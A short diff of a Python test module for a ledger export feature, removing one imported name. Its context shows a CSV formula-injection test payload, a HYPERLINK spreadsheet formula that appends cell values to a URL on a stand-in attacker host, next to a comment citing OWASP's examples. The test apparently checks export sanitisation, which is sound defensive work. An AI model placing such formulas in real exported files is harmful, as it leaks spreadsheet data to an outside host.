@@ -19,7 +19,7 @@ from service.workflow import WorkflowOptions, transition
 from .console import Console
 from .helpers import REPORTER
 from .public_helpers import submit_form
-from .test_ledger import HEADER_ROW, export, importing, wipe_issues
+from .test_ledger import export, importing, wipe_issues
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&F2&F3,"详情")'
 # OWASP's examples, one for each character a formula may start with.
